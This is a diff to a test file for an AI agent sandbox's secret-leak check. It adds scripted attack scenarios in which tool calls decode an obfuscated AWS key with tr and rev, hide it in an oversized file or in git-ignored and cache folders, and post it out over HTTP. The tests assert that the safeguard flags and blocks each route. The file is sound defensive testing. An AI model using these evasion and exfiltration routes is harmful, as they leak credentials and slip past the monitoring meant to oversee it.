@@ -3,6 +3,7 @@
 Real daemon, real tools, bubblewrap; the control is the same daemon with just that look missing.
 """
 
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -54,6 +55,76 @@ async def test_a_key_that_a_program_left_goes_nowhere_by_itself(tmp_path: Path) 
 
 async def test_without_that_look_it_arrives(tmp_path: Path) -> None:
     assert (await play_attack(CARRIES, tmp_path / "root", off=True)).holds(CARRIES.spelled)
+
+
+LARGE = replace(
+    CARRIES,
+    name="a program decodes a key into a file that is too large to be looked through",
+    plays=(
+        Play(
+            (
+                [
+                    call(
+                        "run_command", argv=["sh", "-c", "(tr A-Z N-ZA-M < notes.txt; yes | head -c 4194305) > out.txt"]
+                    )
+                ],
+                [call("run_command", argv=["sh", "-c", "head -n 1 out.txt | rev"])],
+                [http("PORT", told_by("run_command", f"({BACKWARDS})"))],
+            )
+        ),
+    ),
+)
+
+
+async def test_what_was_not_looked_through_counts_as_confidential(tmp_path: Path) -> None:
+    outcome = await play_attack(LARGE, tmp_path / "root")
+    assert not outcome.holds(LARGE.spelled)
+    assert outcome.cards[-1]["provenance"]["confidential"]
+    told = [item["fields"].get("result", "") for item in outcome.items if item["kind"] == "tool"]
+    assert "Too large to be looked through for secrets: out.txt; it counts as confidential." in told[0]
+
+
+async def test_without_that_look_the_large_one_arrives(tmp_path: Path) -> None:
+    assert (await play_attack(LARGE, tmp_path / "root", off=True)).holds(LARGE.spelled)
+
+
+def stays_in(folder: str, files: dict[str, str]) -> Attack:
+    """The decoded key is left where nothing is proposed."""
+    made = f"mkdir -p {folder} && tr A-Z N-ZA-M < notes.txt > {folder}/out.txt"
+    return replace(
+        CARRIES,
+        name=f"a program decodes a key into {folder}",
+        files={**CARRIES.files, **files},
+        plays=(
+            Play(
+                (
+                    [call("run_command", argv=["sh", "-c", made])],
+                    [call("run_command", argv=["sh", "-c", f"rev {folder}/out.txt"])],
+                    [http("PORT", told_by("run_command", f"({BACKWARDS})"))],
+                )
+            ),
+        ),
+    )
+
+
+STAYING = (
+    stays_in("ign/deep", {".gitignore": "ign/\n"}),
+    stays_in("node_modules/x", {}),
+    stays_in(".pytest_cache", {}),
+)
+
+
+@pytest.mark.parametrize("attack", STAYING, ids=lambda attack: attack.name.split()[-1])
+async def test_a_key_left_where_nothing_is_proposed_goes_nowhere_by_itself(tmp_path: Path, attack: Attack) -> None:
+    outcome = await play_attack(attack, tmp_path / "root")
+    assert not outcome.holds(attack.spelled)
+    assert outcome.cards[-1]["provenance"]["confidential"]
+    told = [item["fields"].get("result", "") for item in outcome.items if item["kind"] == "tool"]
+    assert "out.txt (aws access key, line 1); it counts as confidential." in told[0]
+
+
+async def test_without_that_look_what_stays_arrives(tmp_path: Path) -> None:
+    assert (await play_attack(STAYING[0], tmp_path / "root", off=True)).holds(STAYING[0].spelled)
 
 
 def makes(script: str, before: str = "") -> Attack:
